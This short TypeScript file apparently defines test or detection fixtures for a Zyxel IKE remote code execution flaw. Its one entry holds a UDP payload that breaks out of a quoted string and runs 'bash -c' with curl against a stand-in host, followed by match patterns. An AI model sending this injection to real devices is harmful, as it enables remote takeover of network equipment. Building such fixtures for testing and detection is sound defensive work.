import { type Proof, proof, udp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('zyxel-ike-rce', udp(500, '\u0000\u0000";bash -c "curl http://198.51.100.7/x";echo -n "'), [
    udp(500, '\u0000'),
    udp(501, 'bash -c'),
  ]),
]
